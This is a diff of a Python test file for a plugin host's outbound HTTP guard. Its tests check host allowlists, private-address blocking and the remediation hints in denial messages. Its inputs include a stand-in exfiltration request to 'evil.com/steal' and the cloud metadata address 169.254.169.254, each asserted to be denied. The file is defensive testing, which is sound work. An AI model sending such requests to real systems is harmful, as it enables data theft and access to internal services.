@@ -36,6 +36,7 @@ from corral._errors import (
     RateLimited,
     Unavailable,
 )
+from corral._settings_origin import SettingsOrigin
 from corral.capabilities.http._audit import AuditEntry, write_entry
 from corral.capabilities.http._client import OutboundHttp
 from corral.capabilities.http._guard import NetworkPolicy
@@ -213,16 +214,21 @@ def make_client(server: Server, audit: AuditLog) -> Iterator[MakeClient]:
         http: dict[str, Any] | None = None,
         credentials: Sequence[dict[str, Any]] = (),
         resolver: StubResolver | None = None,
+        operator_hosts: bool = False,
+        origin: SettingsOrigin | None = None,
     ) -> OutboundHttp:
         hosts = allowed_hosts or [f"http://{API}:{server.port}", f"http://{OTHER}:{server.port}"]
         options = HttpOptions.model_validate(
             {"allow_private_networks": ["127.0.0.0/8"], **(http or {})}
         )
         policy = build_policy(
-            hosts, options, [CredentialOptions.model_validate(c) for c in credentials]
+            hosts,
+            options,
+            [CredentialOptions.model_validate(c) for c in credentials],
+            operator_hosts=operator_hosts,
         )
         resolver = resolver or StubResolver({API: ["127.0.0.1"], OTHER: ["127.0.0.1"]})
-        client = OutboundHttp("x", policy, audit, resolver)
+        client = OutboundHttp("x", policy, audit, resolver, origin=origin)
         clients.append(client)
         return client
 
@@ -286,6 +292,8 @@ def test_a_host_off_the_allowlist_is_denied(make_client: MakeClient, audit: Audi
         client.send("GET", "https://evil.com/steal?x=1")
     assert caught.value.message == (
         'https://evil.com is not in the allowed hosts of plugin "x" (allowed: https://*.atlassian.net)'
+        "; its manifest does not list it, and the operator can only narrow that list: add "
+        '"https://evil.com" to security.allowed_hosts in the plugin\'s manifest.yaml'
     )
     [entry] = audit.records()
     assert entry["decision"] == "deny" and entry["reason"] == caught.value.message
@@ -356,9 +364,83 @@ def test_internal_addresses_are_blocked_before_connecting(
     client = make_client(http={"allow_private_networks": False}, resolver=resolver)
     with pytest.raises(PermissionDenied) as caught:
         client.send("GET", server.url(API))
-    assert caught.value.message == f'{API} resolves to {reason}, which plugin "x" may not reach'
+    assert caught.value.message.startswith(
+        f'{API} resolves to {reason}, which plugin "x" may not reach; the operator allows it with'
+    )
     assert server.seen == []
     assert audit.records()[0]["decision"] == "deny"
+
+
+CONFIG_FILE = SettingsOrigin(Path("/srv/corral.yaml"))
+
+
+@pytest.mark.parametrize(
+    ("address", "origin", "fix"),
+    [
+        (
+            "127.0.0.1",
+            CONFIG_FILE,
+            "plugins.x.http.allow_private_networks: true in /srv/corral.yaml",
+        ),
+        (
+            "::ffff:10.0.0.1",
+            SettingsOrigin(),
+            'PluginHost(plugins={"x": {"http": {"allow_private_networks": True}}})',
+        ),
+        (
+            "169.254.169.254",
+            CONFIG_FILE,
+            'plugins.x.http.allow_private_networks: ["169.254.169.254/32"] in /srv/corral.yaml',
+        ),
+    ],
+)
+def test_a_blocked_address_names_the_setting_that_opens_it(
+    make_client: MakeClient, server: Server, address: str, origin: SettingsOrigin, fix: str
+) -> None:
+    resolver = StubResolver({API: [address]})
+    client = make_client(http={"allow_private_networks": False}, resolver=resolver, origin=origin)
+    with pytest.raises(PermissionDenied) as caught:
+        client.send("GET", server.url(API))
+    assert caught.value.message.endswith(f"; the operator allows it with {fix}")
+
+
+def test_the_named_setting_opens_the_blocked_address(
+    make_client: MakeClient, server: Server
+) -> None:
+    # The advice must work: following it literally lets the same request through.
+    hosts = [f"http://127.0.0.1:{server.port}"]
+    blocked = make_client(
+        allowed_hosts=hosts, http={"allow_private_networks": False}, origin=CONFIG_FILE
+    )
+    with pytest.raises(PermissionDenied) as caught:
+        blocked.send("GET", f"http://127.0.0.1:{server.port}/")
+    advice = f'plugins.x.http.allowed_hosts: ["http://127.0.0.1:{server.port}"]'
+    assert advice in caught.value.message
+    allowed = make_client(
+        allowed_hosts=hosts, http={"allow_private_networks": False, "allowed_hosts": hosts}
+    )
+    assert allowed.send("GET", f"http://127.0.0.1:{server.port}/").status == 200
+
+
+def test_an_unlisted_host_names_whose_list_refused_it(make_client: MakeClient) -> None:
+    url = "https://b.example.test/"
+    manifest = ["https://a.example.test", "https://b.example.test"]
+    narrowed = make_client(
+        allowed_hosts=manifest, http={"allowed_hosts": manifest[:1]}, origin=CONFIG_FILE
+    )
+    with pytest.raises(PermissionDenied) as caught:
+        narrowed.send("GET", url)
+    assert caught.value.message.endswith(
+        "; the operator allows it with plugins.x.http.allowed_hosts: "
+        '["https://a.example.test", "https://b.example.test"] in /srv/corral.yaml'
+    )
+    operator_chooses = make_client(allowed_hosts=manifest[:1], operator_hosts=True)
+    with pytest.raises(PermissionDenied) as caught:
+        operator_chooses.send("GET", url)
+    assert caught.value.message.endswith(
+        '; the operator allows it with PluginHost(plugins={"x": {"http": {"allowed_hosts": '
+        '["https://b.example.test"]}}})'
+    )
 
 
 def test_one_blocked_record_refuses_the_name(make_client: MakeClient, server: Server) -> None:
@@ -766,8 +848,10 @@ def test_policy_defaults() -> None:
         max_requests_per_call=100,
         requests_per_second=10.0,
         burst=20,
+        manifest_allowlist=policy.manifest_allowlist,
     )
     assert str(policy.allowlist) == "https://api.example.com"
+    assert str(policy.manifest_allowlist) == "https://api.example.com"
 
 
 def test_policy_values() -> None:
